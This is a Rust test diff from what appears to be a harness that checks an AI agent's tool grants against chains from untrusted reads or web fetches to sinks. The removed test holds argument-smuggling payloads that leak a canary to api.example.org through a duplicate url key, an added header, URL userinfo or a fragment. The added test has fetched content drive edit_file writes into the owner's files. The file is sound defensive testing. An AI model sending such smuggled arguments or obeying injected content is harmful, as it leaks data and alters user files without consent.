@@ -412,85 +412,76 @@ fn canaries_go_under_the_tree_only() {
     let _ = std::fs::remove_dir_all(&base);
 }
 
-/// Argument smuggling, last: from the first read to the first fetch host, one chain per
-/// way, each sink call's arguments the JSON text the script sends as it is: a second
-/// `url` key (the same host, with the canary), an unknown field, the canary as the URL's
-/// user name or in its fragment; every URL at the chain's own marker path.
+/// Untrusted content driving an edit: each fetch, then an `edit_file` of each path of each
+/// edit grant, replacing the line planted for it (in a file of its own in a granted
+/// directory, or added to a granted file) with what the sink answered.
 #[test]
-fn smuggling_chains_send_the_arguments_as_they_are() {
-    let plan = chains::plan(&rewritten(), 4321, "n0", false);
-    let smuggled: Vec<&Chain> = plan.iter().filter(|c| c.smuggle.is_some()).collect();
-    assert_eq!(
-        smuggled
-            .iter()
-            .map(|c| (c.n, c.smuggle.unwrap_or_default()))
-            .collect::<Vec<_>>(),
-        [
-            (17, "duplicate"),
-            (18, "unknown-field"),
-            (19, "userinfo"),
-            (20, "fragment")
-        ]
+fn untrusted_content_drives_an_edit() {
+    let mut r = rewritten();
+    r.grants.insert(
+        "www-edit".into(),
+        grant(
+            "tool = \"edit_file\"\nmode = \"auto\"\nmax_taint = \"secret\"\n[constraints]\n\
+             paths = [\"/s/tree/home/owner/notes\", \"/s/tree/home/owner/todo.md\"]\n",
+        ),
     );
-    assert_eq!(plan.len(), 20);
-    assert!(smuggled.iter().all(|c| c.source.tool == "read_file"
-        && c.sink.entry == "api.example.org"
-        && c.sink.tool == "http_fetch"
-        && c.sink.lookalike.is_none()));
-    let args: Vec<&str> = smuggled.iter().map(|c| c.url.as_str()).collect();
+    let plan = chains::plan(&r, 4321, "n0", false);
+    let edits: Vec<&Chain> = plan.iter().filter(|c| c.sink.tool == "edit_file").collect();
+    // Two hosts of web, two paths.
+    assert_eq!(edits.len(), 4);
+    let c = edits[0];
+    assert_eq!(c.source.tool, "http_fetch");
+    assert_eq!(c.canary, format!("BXWRITE-BXCANARY-n0-{}", c.n));
     assert_eq!(
-        args,
-        [
-            r#"{"url":"http://api.example.org:4321/bxsmuggle-17/","url":"http://api.example.org:4321/bxsmuggle-17/?c=BXCANARY-n0-17"}"#,
-            r#"{"headers":{"X-Bx":"BXCANARY-n0-18"},"url":"http://api.example.org:4321/bxsmuggle-18/"}"#,
-            r#"{"url":"http://BXCANARY-n0-19@api.example.org:4321/bxsmuggle-19/"}"#,
-            r#"{"url":"http://api.example.org:4321/bxsmuggle-20/#c=BXCANARY-n0-20"}"#,
-        ]
+        c.url,
+        format!("/s/tree/home/owner/notes/bxhostile-{}.txt", c.n)
     );
-    // Valid JSON text each (what the fake server requires), and strictly the tool's
-    // schema only where no key is doubled or added.
-    for (c, strict) in smuggled.iter().zip([false, false, true, true]) {
-        assert!(serde_json::from_str::<serde_json::Value>(&c.url).is_ok());
-        let args = proto::tools::ToolArgs::parse("http_fetch", &c.url);
-        assert_eq!(args.is_ok(), strict, "{}", c.url);
-    }
-    // The script sends them byte for byte, once the read's result holds the canary.
+    assert_eq!(edits[1].url, "/s/tree/home/owner/todo.md");
     let v: toml::Value =
         toml::from_str(&super::script::script(&plan).expect("script")).expect("toml");
-    for c in &smuggled {
-        let rule = v["rule"]
-            .as_array()
-            .expect("rules")
-            .iter()
-            .find(|r| r["name"].as_str() == Some(&format!("chain {} sink", c.n)))
-            .expect("rule");
-        assert_eq!(
-            rule["match"]["tool_result_contains"].as_str(),
-            Some(c.canary.as_str())
-        );
-        assert_eq!(
-            rule["answer"]["tool_calls"][0]["arguments"].as_str(),
-            Some(c.url.as_str())
-        );
+    let rule = v["rule"]
+        .as_array()
+        .expect("rules")
+        .iter()
+        .find(|r| r["name"].as_str() == Some(&format!("chain {} sink", c.n)))
+        .expect("rule");
+    let args = rule["answer"]["tool_calls"][0]["arguments"]
+        .as_str()
+        .expect("args");
+    assert_eq!(
+        proto::tools::ToolArgs::parse("edit_file", args),
+        Ok(proto::tools::ToolArgs::EditFile(
+            proto::tools::EditFileArgs {
+                new: c.canary.clone(),
+                old: format!("BXEDIT-{}", c.n),
+                path: c.url.clone(),
+            }
+        ))
+    );
+    // Planted: each edit's line where it edits, under the tree.
+    let base = std::env::temp_dir().join(format!("wt-hostile2-edit-{}", std::process::id()));
+    let moved = |p: &str| p.replace("/s/tree", &base.join("tree").display().to_string());
+    let mut r = r;
+    for (shadow, _) in r.paths.values_mut() {
+        *shadow = PathBuf::from(moved(&shadow.display().to_string()));
     }
-    // Reaching the sink: the canary, or the marker path (save for the fragment, dropped
-    // from the URL fetched).
-    let req = |path: &str| {
-        vec![format!(
-            "GET {path} HTTP/1.1\r\nHost: api.example.org\r\n\r\n"
-        )]
-    };
-    assert!(super::smuggle::reached(smuggled[1], &req("/bxsmuggle-18/")));
-    assert!(!super::smuggle::reached(
-        smuggled[1],
-        &req("/bxsmuggle-180/")
-    ));
-    assert!(!super::smuggle::reached(
-        smuggled[3],
-        &req("/bxsmuggle-20/")
-    ));
-    assert!(super::smuggle::reached(
-        smuggled[3],
-        &req("/bxsmuggle-20/#c=BXCANARY-n0-20")
-    ));
+    let mut plan = plan;
+    for c in &mut plan {
+        if c.sink.tool == "edit_file" {
+            c.url = moved(&c.url);
+        } else if matches!(c.source.tool, "read_file" | "list_dir") {
+            c.source.path = moved(&c.source.path);
+        }
+    }
+    chains::plant(&r, &plan, &base.join("tree")).expect("plant");
+    let edits: Vec<&Chain> = plan.iter().filter(|c| c.sink.tool == "edit_file").collect();
+    let own = std::fs::read_to_string(&edits[0].url).expect("own file");
+    assert_eq!(own, format!("BXEDIT-{}\n", edits[0].n));
+    let todo = std::fs::read_to_string(&edits[1].url).expect("todo");
+    assert!(
+        todo.contains(&format!("\nBXEDIT-{}\n", edits[1].n)),
+        "{todo}"
+    );
+    assert_eq!(todo.matches(&format!("BXEDIT-{}\n", edits[1].n)).count(), 1);
+    let _ = std::fs::remove_dir_all(&base);
 }
